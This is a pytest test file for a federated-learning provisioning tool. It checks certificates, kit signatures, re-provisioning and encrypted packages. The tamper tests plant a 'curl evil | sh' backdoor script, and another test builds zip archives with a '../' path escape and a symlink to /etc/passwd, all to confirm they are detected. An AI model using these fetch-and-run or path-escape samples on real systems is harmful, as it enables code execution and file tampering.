"""Provisioning end to end: real certificates, signed kits, re-runs, added sites, protected packages."""

from __future__ import annotations

import json
import stat
import subprocess
import zipfile
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from flare_provider.cli import main as flare
from flare_provider.provisioning import (
    GENERATE,
    KitVerificationError,
    WorkspaceStateError,
    load_project,
    provision,
    require_valid,
    verify_folder,
)
from flare_provider.provisioning.certs import describe_certificate
from flare_provider.provisioning.packages import PackageError, unpack

PROJECT = "hospital_federation"


@pytest.fixture(scope="module")
def kits(tmp_path_factory, sample_project_file):
    """One provisioning of the sample project, shared read-only by the tests below."""
    workspace = tmp_path_factory.mktemp("ws")
    result = provision(load_project(sample_project_file), workspace)
    return result


def load_cert(path: Path) -> x509.Certificate:
    return x509.load_pem_x509_certificate(path.read_bytes())


def startup(result, name: str) -> Path:
    return result.kits[name] / "startup"


def test_layout_matches_nvidia_flare(kits):
    prod = kits.prod_dir
    assert prod.name == "prod_00" and prod.parent.name == PROJECT
    for name in kits.project.participants:
        assert (prod / name.name / "startup" / "signature.json").is_file()
        assert (prod / f"{name.name}.zip").is_file()
    site = prod / "hospital-a"
    assert sorted(p.name for p in (site / "startup").iterdir()) == sorted(
        ["agent.json", "docker.sh", "hospital-a.crt", "hospital-a.key", "readme.txt", "rootCA.pem",
         "signature.json", "start.sh", "stop.sh"]
    )
    settings = (site / "local" / "site.yaml").read_text()
    assert "gpus: [0, 1]" in settings and "allow_custom_code: true" in settings
    assert "allow_custom_code: false" in (prod / "hospital-b" / "local" / "site.yaml").read_text()
    server = json.loads((prod / "airflow-server" / "startup" / "server.json").read_text())
    assert server["sites"]["hospital-c"] == {
        "host": "fl.hospital-c.example", "port": 9102, "org": "hospital_c", "gpus": [], "connect": "outbound"
    }
    assert server["sites"]["hospital-b"]["connect"] == "listen"
    assert (prod.parent / "state" / "rootCA.pem").is_file()


def test_root_ca_is_a_ca(kits):
    root = load_cert(startup(kits, "hospital-a") / "rootCA.pem")
    assert root.subject.get_attributes_for_oid(NameOID.COMMON_NAME)[0].value == PROJECT
    assert root.extensions.get_extension_for_class(x509.BasicConstraints).value.ca
    usage = root.extensions.get_extension_for_class(x509.KeyUsage).value
    assert usage.key_cert_sign and usage.crl_sign


@pytest.mark.parametrize(
    "name, kind, org, usages, sans",
    [
        ("airflow-server", "server", "lead_lab", {"serverAuth", "clientAuth"}, {"airflow-server", "airflow.lead-lab.example"}),
        ("hospital-a", "client", "hospital_a", {"serverAuth", "clientAuth"}, {"hospital-a", "fl.hospital-a.example"}),
        ("hospital-b", "client", "hospital_b", {"serverAuth", "clientAuth"}, {"hospital-b", "10.20.0.15"}),
        ("admin@lead-lab.example", "admin", "lead_lab", {"clientAuth"}, None),
    ],
)
def test_leaf_certificates(kits, name, kind, org, usages, sans):
    folder = startup(kits, name)
    cert = load_cert(folder / f"{name}.crt")
    root = load_cert(folder / "rootCA.pem")
    # cryptography: signed by the root, right subject, usages and SANs
    cert.verify_directly_issued_by(root)
    who = describe_certificate(cert)
    assert (who.name, who.org, who.kind) == (name, org, kind)
    names = {ExtendedKeyUsageOID.SERVER_AUTH: "serverAuth", ExtendedKeyUsageOID.CLIENT_AUTH: "clientAuth"}
    eku = cert.extensions.get_extension_for_class(x509.ExtendedKeyUsage).value
    assert {names[u] for u in eku} == usages
    if sans is None:
        with pytest.raises(x509.ExtensionNotFound):
            cert.extensions.get_extension_for_class(x509.SubjectAlternativeName)
    else:
        san = cert.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
        assert {str(v) for v in san.get_values_for_type(x509.DNSName)} | {
            str(v) for v in san.get_values_for_type(x509.IPAddress)
        } == sans
    # the openssl command agrees
    out = subprocess.run(
        ["openssl", "verify", "-CAfile", str(folder / "rootCA.pem"), str(folder / f"{name}.crt")],
        capture_output=True,
        text=True,
    )
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip().endswith(": OK")
    # the key matches the certificate and is private to its owner
    key_path = folder / f"{name}.key"
    assert stat.S_IMODE(key_path.stat().st_mode) == 0o600
    from cryptography.hazmat.primitives.serialization import load_pem_private_key

    key = load_pem_private_key(key_path.read_bytes(), None)
    assert isinstance(key, ec.EllipticCurvePrivateKey)
    assert key.public_key().public_numbers() == cert.public_key().public_numbers()


def test_admin_role_is_in_the_certificate(kits):
    path = startup(kits, "it@hospital-a.example") / "it@hospital-a.example.crt"
    assert describe_certificate(load_cert(path)).role == "org_admin"
    subject = subprocess.run(
        ["openssl", "x509", "-noout", "-subject", "-in", str(path)], capture_output=True, text=True, check=True
    ).stdout
    assert "unstructuredName = org_admin" in subject and "OU = admin" in subject


def test_openssl_rejects_a_leaf_from_another_project(kits, tmp_path, sample_project_file):
    other = provision(load_project(sample_project_file), tmp_path)
    out = subprocess.run(
        ["openssl", "verify", "-CAfile", str(startup(kits, "hospital-a") / "rootCA.pem"),
         str(startup(other, "hospital-a") / "hospital-a.crt")],
        capture_output=True,
    )
    assert out.returncode != 0


def test_intact_kits_verify(kits):
    for name in kits.kits:
        assert verify_folder(startup(kits, name), kits.root_fingerprint).ok
        assert flare(["kit", "verify", str(kits.kits[name])]) == 0


def copy_kit(kits, name: str, tmp_path: Path) -> Path:
    import shutil

    target = tmp_path / name
    shutil.copytree(kits.kits[name], target)
    return target / "startup"


@pytest.mark.parametrize(
    "tamper, expected",
    [
        (lambda s: (s / "agent.json").write_text('{"server": "attacker"}'), "changed file: agent.json"),
        (lambda s: (s / "backdoor.sh").write_text("curl evil | sh"), "added file: backdoor.sh"),
        (lambda s: (s / "stop.sh").unlink(), "missing file: stop.sh"),
        (lambda s: (s / "extra").mkdir() or (s / "extra" / "x.py").write_text("1"), "added file: extra/x.py"),
        (lambda s: (s / "start.sh").unlink() or (s / "start.sh").symlink_to("/bin/sh"), "changed file: start.sh"),
    ],
)
def test_tampered_kit_is_caught(kits, tmp_path, capsys, tamper, expected):
    folder = copy_kit(kits, "hospital-a", tmp_path)
    tamper(folder)
    report = verify_folder(folder)
    assert not report.ok and expected in report.problems()
    assert flare(["kit", "verify", str(folder)]) == 1
    assert expected in capsys.readouterr().err
    with pytest.raises(KitVerificationError, match=expected):
        require_valid(folder)


def test_resigned_kit_is_caught_by_pinned_fingerprint(kits, tmp_path, sample_project_file):
    """An attacker's own CA can sign a consistent kit; the pinned root fingerprint catches it."""
    forged = provision(load_project(sample_project_file), tmp_path)
    folder = startup(forged, "hospital-a")
    assert verify_folder(folder).ok  # self-consistent
    report = verify_folder(folder, kits.root_fingerprint)
    assert not report.ok and "is not the project's root CA" in report.problems()[0]


def test_signature_swapped_between_kits_is_caught(kits, tmp_path):
    folder = copy_kit(kits, "hospital-a", tmp_path)
    (folder / "signature.json").write_text((startup(kits, "hospital-b") / "signature.json").read_text())
    problems = verify_folder(folder).problems()
    assert "missing file: hospital-b.crt" in problems and "added file: hospital-a.crt" in problems


def test_reprovision_keeps_root_and_increments_prod(tmp_path, sample_project_file):
    project = load_project(sample_project_file)
    first = provision(project, tmp_path)
    second = provision(project, tmp_path)
    assert first.created_root and not second.created_root
    assert second.prod_dir.name == "prod_01"
    assert first.root_fingerprint == second.root_fingerprint
    old = load_cert(startup(first, "hospital-a") / "hospital-a.crt")
    new = load_cert(startup(second, "hospital-a") / "hospital-a.crt")
    assert old.serial_number != new.serial_number  # a full run re-issues
    assert (startup(second, "hospital-a") / "rootCA.pem").read_bytes() == (startup(first, "hospital-a") / "rootCA.pem").read_bytes()


def test_add_site_issues_only_that_site(tmp_path, sample_project_file):
    project_file = tmp_path / "project.yml"
    project_file.write_text(sample_project_file.read_text())
    first = provision(load_project(project_file), tmp_path / "ws")
    project_file.write_text(
        project_file.read_text().replace(
            "  - name: admin@lead-lab.example",
            "  - name: hospital-d\n    type: client\n    org: hospital_d\n    agent_port: 8202\n  - name: admin@lead-lab.example",
        )
    )
    assert flare(["provision", "-p", str(project_file), "-w", str(tmp_path / "ws"), "--add-site", "hospital-d"]) == 0
    prod2 = tmp_path / "ws" / PROJECT / "prod_01"
    for name in ["airflow-server", "hospital-a", "hospital-b", "admin@lead-lab.example"]:
        assert (prod2 / name / "startup" / f"{name}.crt").read_bytes() == (
            first.kits[name] / "startup" / f"{name}.crt"
        ).read_bytes(), name
        assert verify_folder(prod2 / name / "startup", first.root_fingerprint).ok
    new = load_cert(prod2 / "hospital-d" / "startup" / "hospital-d.crt")
    new.verify_directly_issued_by(load_cert(first.kits["hospital-a"] / "startup" / "rootCA.pem"))
    server = json.loads((prod2 / "airflow-server" / "startup" / "server.json").read_text())
    assert server["sites"]["hospital-d"]["port"] == 8202
    connections = json.loads((prod2 / "airflow-server" / "startup" / "connections.json").read_text())
    assert "hospital-d" in json.loads(connections["flare_hospital_federation"]["extra"])["sites"]
    # adding it again is refused
    with pytest.raises(Exception, match="already provisioned"):
        provision(load_project(project_file), tmp_path / "ws", add_sites=["hospital-d"])


def test_add_site_needs_a_provisioned_workspace(tmp_path, sample_project_file):
    with pytest.raises(WorkspaceStateError, match="needs an existing provisioned workspace"):
        provision(load_project(sample_project_file), tmp_path, add_sites=["hospital-a"])
    assert not (tmp_path / PROJECT / "prod_00").exists()


@pytest.mark.parametrize(
    "damage, expected",
    [
        (lambda s: (s / "state.json").write_text("{not json"), "corrupted"),
        (lambda s: (s / "rootCA.key").unlink(), "root CA unusable"),
        (lambda s: (s / "rootCA.pem").write_text("garbage"), "root CA unusable"),
        (lambda s: (s / "state.json").write_text(
            (s / "state.json").read_text().replace('"root_fingerprint": "', '"root_fingerprint": "00')), "does not match"),
    ],
)
def test_corrupted_state_fails_instead_of_a_new_ca(tmp_path, sample_project_file, damage, expected):
    project = load_project(sample_project_file)
    provision(project, tmp_path)
    state = tmp_path / PROJECT / "state"
    damage(state)
    with pytest.raises(WorkspaceStateError, match=expected):
        provision(project, tmp_path)
    assert not (tmp_path / PROJECT / "prod_01").exists()


def test_state_key_written_private(kits):
    state = kits.prod_dir.parent / "state"
    assert stat.S_IMODE((state / "rootCA.key").stat().st_mode) == 0o600


def test_zip_package_unpacks_to_a_verified_kit(kits, tmp_path):
    package = kits.packages["hospital-b"]
    with zipfile.ZipFile(package) as zf:
        assert all(n.startswith("hospital-b/") for n in zf.namelist())
    kit = unpack(package, tmp_path)
    assert verify_folder(kit / "startup", kits.root_fingerprint).ok
    assert stat.S_IMODE((kit / "startup" / "hospital-b.key").stat().st_mode) == 0o600
    assert stat.S_IMODE((kit / "startup" / "start.sh").stat().st_mode) == 0o755


def test_a_package_that_does_not_verify_is_not_left_unpacked(kits, tmp_path, capsys):
    """flare kit unpack with another project's root fingerprint: exit 1, and no kit folder left behind."""
    out = tmp_path / "site"
    assert flare(["kit", "unpack", str(kits.packages["hospital-b"]), "-d", str(out), "--root-fingerprint", "00" * 32]) == 1
    err = capsys.readouterr().err
    assert "FAILED" in err and f"removed {out / 'hospital-b'}" in err
    assert not (out / "hospital-b").exists()


def test_protected_packages_with_generated_passwords(tmp_path, sample_project_file, capsys):
    project = load_project(sample_project_file)
    result = provision(project, tmp_path / "ws", password=GENERATE)
    assert set(result.passwords) == {p.name for p in project.participants}
    assert len(set(result.passwords.values())) == len(result.passwords)
    package = result.packages["hospital-a"]
    assert package.name == "hospital-a.zip.enc"
    assert not zipfile.is_zipfile(package)
    summary = json.dumps(result.summary())
    assert result.summary()["protected"] is True
    assert not any(secret in summary for secret in result.passwords.values())

    # wrong password: a clear error and nothing written
    out = tmp_path / "site"
    with pytest.raises(PackageError, match="wrong password"):
        unpack(package, out, "not-the-password")
    assert not out.exists() or not any(out.iterdir())
    assert flare(["kit", "unpack", str(package), "-d", str(out), "--password", "nope"]) == 2
    assert "wrong password" in capsys.readouterr().err
    assert not out.exists() or not any(out.iterdir())

    assert flare(["kit", "unpack", str(package), "-d", str(out), "--password", result.passwords["hospital-a"]]) == 0
    assert verify_folder(out / "hospital-a" / "startup", result.root_fingerprint).ok


def test_cli_prints_passwords_once_as_a_table(tmp_path, sample_project_file, capsys):
    assert flare(["provision", "-p", str(sample_project_file), "-w", str(tmp_path), "--password"]) == 0
    out = capsys.readouterr().out
    assert "password" in out.splitlines()[2]
    assert "shown only now" in out
    state = (tmp_path / PROJECT / "state" / "state.json").read_text()
    password_column = [line.split()[-1] for line in out.splitlines()[4:10]]
    assert all(len(p) >= 12 for p in password_column)
    assert not any(p in state for p in password_column)


def test_one_password_for_all(tmp_path, sample_project_file):
    result = provision(load_project(sample_project_file), tmp_path, password="correct horse")
    kit = unpack(result.packages["airflow-server"], tmp_path / "out", "correct horse")
    connections = json.loads((kit / "startup" / "connections.json").read_text())
    assert connections["flare_hospital_federation"]["conn_type"] == "flare"


def test_damaged_protected_package_is_refused(tmp_path, sample_project_file):
    result = provision(load_project(sample_project_file), tmp_path, password="pw")
    blob = bytearray(result.packages["hospital-a"].read_bytes())
    blob[-5] ^= 0xFF
    damaged = tmp_path / "damaged.zip.enc"
    damaged.write_bytes(bytes(blob))
    with pytest.raises(PackageError, match="wrong password, or the package is damaged"):
        unpack(damaged, tmp_path / "out", "pw")
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_unpack_refuses_path_escapes_and_links(tmp_path):
    evil = tmp_path / "evil.zip"
    with zipfile.ZipFile(evil, "w") as zf:
        zf.writestr("site/startup/ok.txt", "fine")
        zf.writestr("../outside.txt", "escape")
    with pytest.raises(PackageError, match="outside the target folder"):
        unpack(evil, tmp_path / "out")
    link = tmp_path / "link.zip"
    with zipfile.ZipFile(link, "w") as zf:
        info = zipfile.ZipInfo("site/startup/rootCA.pem")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, "/etc/passwd")
    with pytest.raises(PackageError, match="link or special file"):
        unpack(link, tmp_path / "out")
    assert not (tmp_path / "outside.txt").exists()
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
